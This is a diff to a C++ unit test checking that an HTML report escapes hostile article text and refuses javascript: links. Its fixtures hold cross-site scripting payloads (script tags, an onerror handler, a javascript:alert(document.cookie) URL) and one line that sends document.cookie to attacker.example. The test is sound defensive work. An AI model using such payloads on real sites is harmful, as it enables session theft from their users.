@@ -66,8 +66,10 @@ TEST(Report, HostileArticleTextStaysText) {
         "evil\"<id>", "<script>alert(1)</script> News", "Title with <img src=x onerror=alert(1)>",
         shared + "<script>document.location='http://attacker.example/'+document.cookie</script>\n\n"
                  "Subscribe to our <iframe src=//x> newsletter."));
+    corpus.articles.back().url = "javascript:alert(document.cookie)";
     corpus.articles.push_back(make_article("plain", "O'Brien & Sons Gazette", "A 'quoted' title",
                                            shared + "Officials said 'no comment' on the report."));
+    corpus.articles.back().url = "https://example.org/story?a=1&b=2";
     const Analysis a = analyze(std::move(corpus));
     const auto files = build_report(a);
     ASSERT_EQ(files.size(), 1u);
@@ -80,6 +82,8 @@ TEST(Report, HostileArticleTextStaysText) {
     EXPECT_NE(html.find("&lt;script&gt;document.location=&#39;http://attacker.example/&#39;"), std::string::npos);
     EXPECT_NE(html.find("Title with &lt;img src=x onerror=alert(1)&gt;"), std::string::npos);
     EXPECT_NE(html.find("O&#39;Brien &amp; Sons Gazette"), std::string::npos);
+    EXPECT_EQ(html.find("href=\"javascript:"), std::string::npos) << "a script address is never a link";
+    EXPECT_NE(html.find("href=\"https://example.org/story?a=1&amp;b=2\""), std::string::npos);
     EXPECT_NE(html.find("id=\"article-evil~22~3Cid~3E\""), std::string::npos);
     // The app's deep link percent-encodes the id, so the hash cannot break out of the attribute.
     EXPECT_NE(html.find("index.html#view=reader&amp;article=evil%22%3Cid%3E"), std::string::npos);
